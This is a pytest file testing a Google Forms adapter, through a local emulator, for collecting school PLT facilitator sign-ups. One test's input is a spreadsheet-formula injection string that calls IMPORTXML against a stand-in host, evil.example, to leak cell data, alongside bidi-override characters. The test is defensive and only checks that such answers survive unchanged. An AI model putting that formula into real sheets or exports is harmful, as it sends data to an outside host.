"""The forms adapter against the emulator, through the real Forms client over loopback:
`plt init` creates the form, facilitators answer it, `plt sync` reads every response."""
from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest
import requests

from belmont_fields import Team, fields
from forms.create import create_form
from forms.model import Member
from forms.reader import read_form
from forms.submissions import to_submissions as read_submissions
from sync.google.workspace import connect

TITLES = {
    "facilitator_name": "Your name", "facilitator_email": "Your school email", "team_name": "PLT name",
    "school": "School", "topic": "PLT topic", "members": "PLT members", "goal_type": "Goal type",
    "meeting_time": "When will you meet?", "training": "Facilitator training",
}
SCHOOLS = ["Belmont High School", "Chenery Middle School", "Winn Brook Elementary"]
GOALS = ["Professional Practice Goal", "Student Learning Goal"]
TRAINING = ["Enrolling in the facilitator course", "Exempt: previous facilitation experience"]
T0 = datetime(2017, 10, 2, 12, 0, tzinfo=timezone.utc)
FIELDS = fields(TITLES, goal_types=GOALS, training=TRAINING)


def to_submissions(snapshot, _fields, **kwargs):
    """The form's responses read with Belmont's fields, each in that programme's words."""
    subs, problems = read_submissions(snapshot, FIELDS, sites=SCHOOLS, names={"facilitator_email": "facilitator_name"},
                                      **kwargs)
    return [Team(sub) for sub in subs], problems


@pytest.fixture
def forms(endpoint):
    return connect(None, endpoint).forms


def new_form(forms, *, verified=False) -> str:
    form_id, calls = create_form(forms, title="Belmont PLTs 2017-2018", description="Submit by October 6.",
                                 fields=FIELDS, sites=SCHOOLS, collect_verified_email=verified)
    assert calls == 2
    return form_id


def submit(endpoint, form_id, answers, *, minute=0, email=None) -> str:
    body = {"answers": answers, "submittedAt": (T0 + timedelta(minutes=minute)).isoformat()}
    if email:
        body["respondentEmail"] = email
    reply = requests.post(f"{endpoint}/_emulator/forms/{form_id}/responses", json=body, timeout=10)
    assert reply.status_code == 200, reply.text
    return reply.json()["responseId"]


def facilitator(n: int, **changes) -> dict:
    answers = {"Your name": f"Facilitator {n}", "Your school email": f"f{n}@belmont.k12.ma.us",
               "PLT name": f"Team {n}", "School": SCHOOLS[n % 3], "Goal type": GOALS[n % 2],
               "PLT members": f"Member A{n} <a{n}@belmont.k12.ma.us>\nb{n}@belmont.k12.ma.us"}
    answers.update(changes)
    return answers


def stats(endpoint) -> dict:
    return requests.get(f"{endpoint}/_emulator/stats", timeout=10).json()["by_method"]


def test_created_form_asks_every_configured_question_in_order(forms, endpoint):
    form_id = new_form(forms)
    assert stats(endpoint) == {"forms.forms.batchUpdate": 1, "forms.forms.create": 1}
    snapshot = read_form(forms, form_id)
    assert [q.title for q in snapshot.questions] == list(TITLES.values())
    kinds = {q.title: (q.kind, q.choices, q.required) for q in snapshot.questions}
    assert kinds["School"] == ("drop_down", tuple(SCHOOLS), True)
    assert kinds["Goal type"] == ("radio", tuple(GOALS), False)
    assert kinds["PLT members"] == ("paragraph", (), True)
    assert kinds["When will you meet?"] == ("text", (), False)
    assert snapshot.title == "Belmont PLTs 2017-2018" and not snapshot.collects_verified_email
    form = forms.forms().get(formId=form_id).execute()
    assert form["info"]["description"] == "Submit by October 6."
    assert form["publishSettings"]["publishState"] == {"isPublished": True, "isAcceptingResponses": True}


def test_form_collecting_verified_email_has_no_email_question(forms):
    snapshot = read_form(forms, new_form(forms, verified=True))
    assert snapshot.collects_verified_email
    assert "Your school email" not in [q.title for q in snapshot.questions]


def test_two_fields_with_the_same_title_are_refused_before_any_call(forms, endpoint):
    titles = dict(TITLES, topic=" plt NAME ")
    with pytest.raises(ValueError, match="same title"):
        create_form(forms, title="t", description="", fields=fields(titles, goal_types=GOALS, training=TRAINING),
                    sites=SCHOOLS, collect_verified_email=False)
    assert stats(endpoint) == {}


def test_form_without_responses_is_read_in_two_calls(forms, endpoint):
    form_id = new_form(forms)
    requests.delete(f"{endpoint}/_emulator/stats", timeout=10)
    snapshot = read_form(forms, form_id)
    assert snapshot.responses == () and snapshot.calls == 2
    assert stats(endpoint) == {"forms.forms.get": 1, "forms.forms.responses.list": 1}


@pytest.mark.parametrize("count, page_size, pages", [(7, 3, 3), (6, 3, 2), (7, 5000, 1)])
def test_every_response_is_read_across_pages_and_each_call_counted(forms, endpoint, count, page_size, pages):
    form_id = new_form(forms)
    ids = [submit(endpoint, form_id, facilitator(n), minute=n) for n in range(count)]
    requests.delete(f"{endpoint}/_emulator/stats", timeout=10)
    snapshot = read_form(forms, form_id, page_size=page_size)
    assert sorted(r.response_id for r in snapshot.responses) == sorted(ids)
    assert snapshot.calls == 1 + pages
    assert stats(endpoint) == {"forms.forms.get": 1, "forms.forms.responses.list": pages}


def test_responses_read_back_become_submissions(forms, endpoint):
    form_id = new_form(forms)
    rid = submit(endpoint, form_id, facilitator(1, **{"Facilitator training": TRAINING[1]}), minute=5)
    snapshot = read_form(forms, form_id)
    subs, problems = to_submissions(snapshot, TITLES, allowed_domains=["belmont.k12.ma.us"])
    assert problems == []
    assert subs[0].response_id == rid and subs[0].submitted_at == T0 + timedelta(minutes=5)
    assert (subs[0].school, subs[0].goal_type, subs[0].training) == (SCHOOLS[1], GOALS[1], TRAINING[1])
    assert subs[0].members == (Member("Member A1", "a1@belmont.k12.ma.us"), Member("", "b1@belmont.k12.ma.us"))


def test_hostile_answers_survive_the_round_trip_exactly(forms, endpoint):
    form_id = new_form(forms)
    team = '=IMPORTXML("http://evil.example/?q="&A1,"//a") \u202eمدرسة\u202c'
    topic = "Line one\r\nLine two\twith tab \u200b\u200d 👩🏽‍🏫"
    submit(endpoint, form_id, facilitator(1, **{"PLT name": team, "PLT topic": topic}))
    subs, problems = to_submissions(read_form(forms, form_id), TITLES, allowed_domains=["belmont.k12.ma.us"])
    assert problems == []
    assert (subs[0].team_name, subs[0].topic) == (team, topic)


def test_malformed_responses_become_problems_and_good_ones_still_pass(forms, endpoint):
    form_id = new_form(forms)
    submit(endpoint, form_id, facilitator(1, **{"Your school email": "jane.doe@"}), minute=1)
    submit(endpoint, form_id, facilitator(2, **{"PLT members": ""}), minute=2)
    good = submit(endpoint, form_id, facilitator(3, **{"PLT name": "Grade\x00 3"}), minute=3)
    subs, problems = to_submissions(read_form(forms, form_id), TITLES, allowed_domains=["belmont.k12.ma.us"])
    assert [s.response_id for s in subs] == [good] and subs[0].team_name == "Grade 3"
    assert sorted((p.field, p.severity) for p in problems) == [
        ("facilitator_email", "error"), ("members", "error"), ("team_name", "warning")]


def test_verified_respondent_email_is_the_facilitators_email(forms, endpoint):
    form_id = new_form(forms, verified=True)
    answers = facilitator(4)
    del answers["Your school email"]
    submit(endpoint, form_id, answers, email="Janice.Darias@belmont.k12.ma.us")
    subs, problems = to_submissions(read_form(forms, form_id), TITLES, allowed_domains=["belmont.k12.ma.us"])
    assert problems == [] and subs[0].facilitator_email == "janice.darias@belmont.k12.ma.us"


def test_question_renamed_after_responses_came_in_is_reported_once(forms, endpoint):
    form_id = new_form(forms)
    submit(endpoint, form_id, facilitator(1))
    submit(endpoint, form_id, facilitator(2), minute=1)
    rename = {"updateItem": {"item": {"title": "Who is on your team?"}, "location": {"index": 5},
                             "updateMask": "title"}}
    forms.forms().batchUpdate(formId=form_id, body={"requests": [rename]}).execute()
    subs, problems = to_submissions(read_form(forms, form_id), TITLES, allowed_domains=["belmont.k12.ma.us"])
    assert subs == []
    assert [p.reason for p in problems if p.response_id == ""] == [
        "the form has no question titled 'PLT members' (renamed or deleted?)"]
    assert sorted(p.field for p in problems if p.response_id) == ["members", "members"]


def test_edited_response_keeps_its_id_and_creation_time_and_moves_its_submission_time(forms, endpoint):
    form_id = new_form(forms)
    rid = submit(endpoint, form_id, facilitator(1))
    edited = {"answers": facilitator(1, **{"PLT name": "Team One, renamed"}),
              "submittedAt": (T0 + timedelta(days=2)).isoformat()}
    requests.put(f"{endpoint}/_emulator/forms/{form_id}/responses/{rid}", json=edited, timeout=10).raise_for_status()
    response, = read_form(forms, form_id).responses
    assert (response.response_id, response.create_time, response.last_submitted_time) == (
        rid, T0, T0 + timedelta(days=2))
